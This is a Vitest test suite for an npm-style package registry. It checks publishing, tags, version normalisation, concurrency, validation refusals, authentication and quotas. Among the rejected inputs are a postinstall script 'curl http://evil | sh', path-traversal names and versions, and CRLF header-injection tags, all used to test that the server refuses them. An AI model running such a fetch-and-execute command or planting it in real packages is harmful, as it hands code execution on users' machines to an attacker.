import { readdir } from 'node:fs/promises'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { buildPublication, type Publication } from '../../support/builders/npm.ts'
import { buildNpmTarball, integrityOf } from '../../support/builders/npm-tarball.ts'
import { basic, TestApp } from '../../support/test-app.ts'
import { Registry } from './registry.ts'

let server: TestApp
let registry: Registry
let bob: Registry
let alice: string

beforeAll(async () => {
  server = await TestApp.start()
  alice = await server.createUser('alice')
  await server.createOrganization('acme', alice)
  registry = new Registry(server, 'acme', alice)
  bob = registry.as(await server.createUser('bob'))
})
afterAll(() => server.close())

const versionOf = (publication: Publication) =>
  Object.values(publication.versions)[0] as Record<string, Record<string, unknown>>
const attachmentOf = (publication: Publication) => Object.values(publication._attachments)[0]!
const distOf = (publication: Publication): Record<string, unknown> => versionOf(publication)['dist']!

/** Puts another tarball into a publication, digests included. */
function attach(publication: Publication, bytes: Buffer): void {
  Object.assign(attachmentOf(publication), { data: bytes.toString('base64'), length: bytes.length })
  distOf(publication)['integrity'] = integrityOf(bytes)
  delete distOf(publication)['shasum']
}

async function blobCount(): Promise<number> {
  return server.services.models.packageBlob.count()
}

describe('publishing', () => {
  test('makes the version visible with its files, digests and publisher', async () => {
    const manifest = {
      description: 'A tool',
      main: 'index.js',
      exports: { '.': './index.js' },
      scripts: { postinstall: 'echo' },
      license: { type: 'MIT' },
      somethingNew: { a: [null] },
    }
    const tarball = await buildNpmTarball({ name: '@acme/tool', version: '1.0.0', ...manifest })
    const response = await registry.publish({ name: '@acme/tool', version: '1.0.0', manifest, tarball })
    expect(response.statusCode).toBe(201)
    const document = (await registry.get('/@acme%2ftool')).json()
    expect(document).toMatchObject({
      _id: '@acme/tool',
      name: '@acme/tool',
      'dist-tags': { latest: '1.0.0' },
      description: 'A tool',
      readme: '# @acme/tool\n',
      readmeFilename: 'README.md',
      maintainers: [{ name: 'alice', email: 'alice@noreply.127.0.0.1' }],
    })
    expect(Object.keys(document.time)).toEqual(['created', 'modified', '1.0.0'])
    expect(document.versions['1.0.0']).toEqual({
      ...manifest,
      name: '@acme/tool',
      version: '1.0.0',
      readmeFilename: 'README.md',
      _id: '@acme/tool@1.0.0',
      _nodeVersion: '20.20.2',
      _npmVersion: '11.19.1',
      _npmUser: { name: 'alice', email: 'alice@noreply.127.0.0.1' },
      maintainers: [{ name: 'alice', email: 'alice@noreply.127.0.0.1' }],
      _hasShrinkwrap: false,
      hasInstallScript: true,
      dist: {
        integrity: tarball.integrity,
        shasum: tarball.shasum,
        fileCount: 2,
        unpackedSize: expect.any(Number),
        tarball: `http://127.0.0.1:8080${registry.path}/@acme/tool/-/tool-1.0.0.tgz`,
      },
    })
    const file = await registry.get('/@acme/tool/-/tool-1.0.0.tgz')
    expect(file.rawPayload.equals(tarball.bytes)).toBe(true)
    expect(JSON.stringify(document)).not.toContain('alice@example.org')
  })

  test('moves the tags it names and no others; the first version ever is latest whatever its tag', async () => {
    const publish = (version: string, tags: string[]) => registry.publish({ name: 'tagged', version, tags })
    const tags = async () => (await registry.get('/-/package/tagged/dist-tags')).json()
    await publish('1.0.0-rc.1', ['next'])
    expect(await tags()).toEqual({ latest: '1.0.0-rc.1', next: '1.0.0-rc.1' })
    await publish('1.0.0', ['latest'])
    expect(await tags()).toEqual({ latest: '1.0.0', next: '1.0.0-rc.1' })
    await publish('2.0.0-rc.1', ['next'])
    expect(await tags()).toEqual({ latest: '1.0.0', next: '2.0.0-rc.1' })
    await registry.publish({ name: 'tagged', version: '0.9.0', tags: [] }, (publication) => {
      publication['dist-tags'] = { latest: '1.0.0', next: '1.0.0', old: 'v0.9.0' }
    })
    expect(await tags()).toEqual({ latest: '1.0.0', next: '2.0.0-rc.1', old: '0.9.0' })
  })

  test('normalises the version: leading v and build metadata go', async () => {
    const tarball = await buildNpmTarball({ name: 'normal', version: 'v1.2.3+build.7' })
    const response = await registry.publish({ name: 'normal', version: 'v1.2.3+build.7', tarball })
    expect(response.statusCode).toBe(201)
    expect((await registry.get('/normal')).json()).toMatchObject({ 'dist-tags': { latest: '1.2.3' } })
    expect((await registry.get('/normal/-/normal-1.2.3.tgz')).statusCode).toBe(200)
    const again = await registry.publish({ name: 'normal', version: '1.2.3+other' })
    expect(again.statusCode).toBe(409)
  })

  test('takes the other attachment of a publish with provenance for what it is', async () => {
    const response = await registry.publish({ name: 'proven', version: '1.0.0' }, (publication) => {
      publication._attachments = {
        'proven-1.0.0.sigstore': {
          content_type: 'application/vnd.dev.sigstore.bundle.v0.3+json',
          data: '{"mediaType":"x"}',
          length: 17,
        },
        ...publication._attachments,
      }
    })
    expect(response.statusCode).toBe(201)
    expect((await registry.get('/proven/-/proven-1.0.0.tgz')).statusCode).toBe(200)
  })

  test('takes sha1 integrity and stores sha512', async () => {
    const response = await registry.publish({ name: 'old-client', version: '1.0.0' }, (publication) => {
      distOf(publication)['integrity'] =
        `sha1-${Buffer.from(String(distOf(publication)['shasum']), 'hex').toString('base64')}`
    })
    expect(response.statusCode).toBe(201)
    expect((await registry.get('/old-client/1.0.0')).json().dist.integrity).toMatch(/^sha512-/)
  })

  test('of a tarball of several megabytes streams through the spool and leaves nothing there', async () => {
    const tarball = await buildNpmTarball({ name: 'large', version: '1.0.0' }, { padding: 5_000_000 })
    expect((await registry.publish({ name: 'large', version: '1.0.0', tarball })).statusCode).toBe(201)
    const file = await registry.get('/large/-/large-1.0.0.tgz')
    expect(file.rawPayload.equals(tarball.bytes)).toBe(true)
    expect(await readdir(join(server.dataDir, 'spool'))).toEqual([])
  })

  test('twice at the same time: one wins, the version has one tarball', async () => {
    const files = [{ 'a.js': 'a' }, { 'b.js': 'b' }, { 'c.js': 'c' }]
    const responses = await Promise.all(
      files.map((one) => registry.publish({ name: 'raced', version: '1.0.0', files: one })),
    )
    expect(responses.map(({ statusCode }) => statusCode).sort()).toEqual([201, 409, 409])
  })

  test('different versions at the same time: all are there, and one is latest', async () => {
    const versions = ['1.0.0', '1.0.1', '1.0.2', '1.0.3', '1.0.4']
    const responses = await Promise.all(versions.map((version) => registry.publish({ name: 'parallel', version })))
    expect(responses.map(({ statusCode }) => statusCode)).toEqual(versions.map(() => 201))
    const document = (await registry.get('/parallel')).json()
    expect(Object.keys(document.versions).sort()).toEqual(versions)
    expect(versions).toContain(document['dist-tags'].latest)
  })
})

describe('publishing a version again', () => {
  test('is refused, also with the same bytes', async () => {
    const publication = await buildPublication({ name: 'once', version: '1.0.0' })
    expect((await registry.put('/once', publication)).statusCode).toBe(201)
    const again = await registry.put('/once', publication)
    expect(again.statusCode).toBe(409)
    expect(again.json()).toEqual({ error: 'package version already exists' })
  })

  test('is the same publish once more when its answer may have got lost: same bytes, same user, ten minutes', async () => {
    const publication = await buildPublication({ name: 'repeated', version: '1.0.0' })
    expect((await registry.put('/repeated', publication)).statusCode).toBe(201)
    const { dataDir, services } = server
    // What another process did, it may have failed to answer.
    const restarted = await TestApp.start({ dataDir, databaseUrl: services.config.database.url })
    try {
      const same = new Registry(restarted, 'acme', alice)
      expect((await same.put('/repeated', publication)).statusCode).toBe(201)
      expect((await same.put('/repeated', publication)).statusCode).toBe(409)
      restarted.clock.advance(11 * 60_000)
      expect((await same.put('/repeated', publication)).statusCode).toBe(409)
    } finally {
      await restarted.close()
    }
  })

  test('is refused with other bytes, and for somebody else', async () => {
    await registry.publish({ name: 'taken', version: '1.0.0' })
    expect((await registry.publish({ name: 'taken', version: '1.0.0', files: { x: 'y' } })).statusCode).toBe(409)
    const root = registry.as(server.admin)
    expect((await root.publish({ name: 'taken', version: '1.0.0' })).statusCode).toBe(409)
  })

  test('works after it was unpublished', async () => {
    await registry.publish({ name: 'back', version: '1.0.0' })
    await registry.delete('/back/-/back-1.0.0.tgz/-rev/any')
    expect((await registry.publish({ name: 'back', version: '1.0.0', files: { x: 'new' } })).statusCode).toBe(201)
    expect((await registry.get('/back')).json()['dist-tags']).toEqual({ latest: '1.0.0' })
  })
})

describe('publishing is refused, and leaves nothing behind', () => {
  const name = 'refused'
  type Change = (publication: Publication) => void
  const version = '1.0.0'
  const refusals: [string, Change][] = [
    ['no versions', (p) => Object.assign(p, { versions: {} })],
    ['versions that are a list', (p) => Object.assign(p, { versions: [versionOf(p)] })],
    ['two versions', (p) => Object.assign(p.versions, { '1.0.1': versionOf(p) })],
    ['a version that is null', (p) => Object.assign(p.versions, { [version]: null })],
    ['another name than the URL', (p) => Object.assign(p, { name: 'other' })],
    ['another name in the version', (p) => Object.assign(versionOf(p), { name: 'other' })],
    ['no name in the version', (p) => Object.assign(versionOf(p), { name: undefined })],
    ['another version inside', (p) => Object.assign(versionOf(p), { version: '1.0.1' })],
    ['no version inside', (p) => Object.assign(versionOf(p), { version: undefined })],
    ['no tarball', (p) => Object.assign(p, { _attachments: { 'x.sigstore': { data: '{}' } } })],
    ['two tarballs', (p) => Object.assign(p._attachments, { 'x.tgz': { data: 'QQ==' } })],
    ['an empty tarball', (p) => Object.assign(attachmentOf(p), { data: '', length: 0 })],
    ['data that is no text', (p) => Object.assign(attachmentOf(p), { data: 7 })],
    ['data that is no base64', (p) => Object.assign(attachmentOf(p), { data: '!!!!' })],
    ['data with line breaks', (p) => Object.assign(attachmentOf(p), { data: `${attachmentOf(p)['data']}\n` })],
    ['another length', (p) => Object.assign(attachmentOf(p), { length: 1 })],
    ['no dist', (p) => Object.assign(versionOf(p), { dist: undefined })],
    ['no integrity', (p) => Object.assign(distOf(p), { integrity: undefined })],
    ['integrity of an unknown kind', (p) => Object.assign(distOf(p), { integrity: 'md5-AAAA' })],
    ['another integrity', (p) => Object.assign(distOf(p), { integrity: integrityOf(Buffer.from('x')) })],
    ['another shasum', (p) => Object.assign(distOf(p), { shasum: '0'.repeat(40) })],
    ['a shasum that is no text', (p) => Object.assign(distOf(p), { shasum: 7 })],
    ['no gzip', (p) => attach(p, Buffer.from('no gzip'))],
    ['gzip of no tar', (p) => attach(p, gzipSync('no tar'))],
    ['an empty tag', (p) => Object.assign(p, { 'dist-tags': { '': version } })],
    ['a version as tag', (p) => Object.assign(p, { 'dist-tags': { '1.0.0': version } })],
    ['a range as tag', (p) => Object.assign(p, { 'dist-tags': { '1.x': version } })],
    ['a tag with a line break', (p) => Object.assign(p, { 'dist-tags': { 'a\r\nset-cookie: x': version } })],
    ['a tag that points nowhere', (p) => Object.assign(p, { 'dist-tags': { latest: 'newest' } })],
    ['tags that are a list', (p) => Object.assign(p, { 'dist-tags': ['latest'] })],
  ]
  test.each(refusals)('400: %s', async (_what, change) => {
    const blobs = await blobCount()
    const response = await registry.publish({ name, version }, change)
    expect(response.statusCode).toBe(400)
    expect(response.json()).toEqual({ error: expect.any(String) })
    expect((await registry.get(`/${name}`)).statusCode).toBe(404)
    expect(await blobCount()).toBe(blobs)
    expect(await readdir(join(server.dataDir, 'spool'))).toEqual([])
  })

  test.each(['1.0', 'latest', '', '1.0.0/../../../etc', '../1.0.0', '1.0.0\r\nx', `1.0.0-${'a'.repeat(250)}`])(
    '400: the version %j',
    async (bad) => {
      const tarball = await buildNpmTarball({ name, version: bad })
      expect((await registry.publish({ name, version: bad, tags: [], tarball })).statusCode).toBe(400)
    },
  )

  test.each([
    'Upper',
    '.hidden',
    '_under',
    'a b',
    '@acme/.x',
    '@ACME/x',
    'ünï',
    '-',
    'x'.repeat(215),
    'a%00b',
    'a%0d%0ab',
    '..%2f..%2fetc',
    '@..%2fx',
    'a%5cb',
    'a%252fb',
  ])('400 or 404: the name %j', async (bad) => {
    const publication = await buildPublication({ name: decodeURIComponent(bad), version })
    const response = await registry.put(`/${bad.startsWith('@') ? bad.replace('/', '%2f') : bad}`, publication)
    expect(bad === '-' ? [404] : [400]).toContain(response.statusCode)
  })

  test('400: a tarball with another package.json than the metadata', async () => {
    for (const packageJson of [
      { name: 'other', version },
      { name, version: '6.6.6' },
      { name, version, scripts: { postinstall: 'curl http://evil | sh' } },
      { name, version, dependencies: { evil: '*' } },
    ]) {
      const tarball = await buildNpmTarball(packageJson)
      const response = await registry.publish({ name, version, tarball })
      expect(response.statusCode).toBe(400)
      expect(response.json().error).toContain("tarball's package.json has another")
    }
    expect((await registry.get(`/${name}`)).statusCode).toBe(404)
  })

  test('400: what is no JSON, no object, cut off, of no known meaning, or encoded', async () => {
    const text = JSON.stringify(await buildPublication({ name, version }))
    for (const body of ['', 'x', 'null', '[]', '"text"', '{}', '{"_attachments":{}}', text.slice(0, -1), `${text}x`]) {
      expect((await registry.put(`/${name}`, body)).statusCode, body.slice(0, 20)).toBe(400)
    }
    const encoded = await registry.request('PUT', `/${name}`, {
      headers: { 'content-encoding': 'gzip', 'content-type': 'application/json' },
      payload: gzipSync(text),
    })
    expect(encoded.statusCode).toBe(400)
  })

  test('401 with a challenge: nobody, a stranger, a token that only reads', async () => {
    const reading = await server.createToken('alice', ['read:package'], basic('alice', 'a-long-password'))
    for (const who of [registry.as(null), bob, registry.as(`Bearer ${reading}`), registry.as('Bearer nonsense')]) {
      const response = await who.publish({ name, version })
      expect(response.statusCode).toBe(401)
      expect(response.headers['www-authenticate']).toMatch(/^Basic realm="[^",]*"$/)
      expect(response.body.toLowerCase()).not.toContain('one-time pass')
    }
    expect((await registry.get(`/${name}`)).statusCode).toBe(404)
  })

  test('404: an owner that does not exist, before anything else', async () => {
    expect((await new Registry(server, 'nobody', null).publish({ name, version })).statusCode).toBe(404)
  })
})

describe('limits', () => {
  let small: TestApp
  let mine: Registry
  let roots: Registry

  beforeAll(async () => {
    small = await TestApp.start({
      environment: { ENTREPOT_PACKAGES_LIMITS_NPM: '20KiB', ENTREPOT_PACKAGES_LIMIT_TOTAL_OWNER_COUNT: '2' },
    })
    mine = new Registry(small, 'carol', await small.createUser('carol'))
    roots = mine.as(small.admin)
  })
  afterAll(() => small.close())

  test('403: a tarball over the limit of its type', async () => {
    const response = await mine.publish({ name: 'a', version: '1.0.0', padding: 30_000 })
    expect(response.statusCode).toBe(403)
    expect(response.json()).toEqual({ error: 'maximum allowed package type size exceeded' })
    expect((await mine.get('/a')).statusCode).toBe(404)
  })

  test('413: a body over twice the limit and 64 KiB, declared or streamed', async () => {
    const declared = await mine.publish({ name: 'a', version: '1.0.0', padding: 100_000 })
    expect(declared.statusCode).toBe(413)
    const url = await small.listen()
    const text = JSON.stringify(await buildPublication({ name: 'a', version: '1.0.0', padding: 500_000 }))
    async function* slowly() {
      for (let at = 0; at < text.length; at += 16_384) yield Buffer.from(text.slice(at, at + 16_384))
    }
    const streamed = await fetch(`${url}${mine.path}/a`, {
      method: 'PUT',
      headers: { authorization: basic('carol', 'a-long-password') },
      body: slowly() as never,
      duplex: 'half',
    } as RequestInit)
    expect(streamed.status).toBe(413)
    expect(await streamed.json()).toEqual({ error: expect.stringContaining('the body is over') })
    expect(await readdir(join(small.dataDir, 'spool'))).toEqual([])
  })

  test('403: more versions than the owner may have', async () => {
    expect((await mine.publish({ name: 'a', version: '1.0.0' })).statusCode).toBe(201)
    expect((await mine.publish({ name: 'a', version: '1.0.1' })).statusCode).toBe(201)
    const response = await mine.publish({ name: 'b', version: '1.0.0' })
    expect(response.statusCode).toBe(403)
    expect(response.json()).toEqual({ error: 'maximum allowed package count exceeded' })
    expect((await mine.get('/b')).statusCode).toBe(404)
  })

  test('an administrator is exempt from quotas', async () => {
    expect((await roots.publish({ name: 'b', version: '1.0.0', padding: 30_000 })).statusCode).toBe(201)
  })
})
